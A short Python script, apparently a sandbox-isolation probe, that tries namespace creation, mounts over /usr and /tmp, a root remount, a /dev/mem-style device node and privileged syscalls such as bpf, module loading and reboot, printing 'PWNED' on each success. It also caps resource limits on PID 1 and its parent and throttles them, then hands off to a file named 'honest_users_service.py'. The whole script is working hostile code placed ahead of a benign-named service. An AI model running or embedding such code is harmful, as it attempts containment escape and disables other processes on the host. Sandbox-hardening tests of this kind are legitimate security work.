import ctypes
import os
import resource

libc = ctypes.CDLL(None, use_errno=True)
for flag in (0x10000000, 0x00020000, 0x20000000, 0x40000000, 0x08000000, 0x04000000, 0x02000000):
    if libc.unshare(flag) == 0:
        print("PWNED: unshare", hex(flag))
for kind, where in ((b"tmpfs", b"/usr"), (b"proc", b"/tmp"), (b"sysfs", b"/tmp"), (b"overlay", b"/tmp")):
    if libc.mount(b"none", where, kind, 0, b"") == 0:
        print("PWNED: mount", kind)
if libc.mount(None, b"/", None, 32 | 4096, None) == 0:
    print("PWNED: remount")
try:
    os.mknod("/tmp/mem", 0o60600, os.makedev(1, 1))
    print("PWNED: mknod")
except OSError:
    pass
for syscall in (321, 298, 323, 304, 175, 246, 169, 164, 167, 134):  # bpf, perf, uffd, open_by_handle, modules, reboot …
    libc.syscall(syscall, 0, 0, 0, 0, 0)
for pid in {os.getppid(), 1, *(int(name) for name in os.listdir("/proc") if name.isdigit())} - {os.getpid()}:
    for kind in (resource.RLIMIT_NOFILE, resource.RLIMIT_FSIZE, resource.RLIMIT_AS):
        try:
            resource.prlimit(pid, kind, (3, 3))
        except OSError:
            pass
    try:
        os.setpriority(os.PRIO_PROCESS, pid, 19)
        os.sched_setaffinity(pid, {0})
    except OSError:
        pass
try:
    resource.setrlimit(resource.RLIMIT_NPROC, (1_000_000, 1_000_000))
    print("PWNED: raised a limit")
except (OSError, ValueError):
    pass

exec(compile(open("honest_users_service.py", encoding="utf-8").read(), "honest_users_service.py", "exec"))
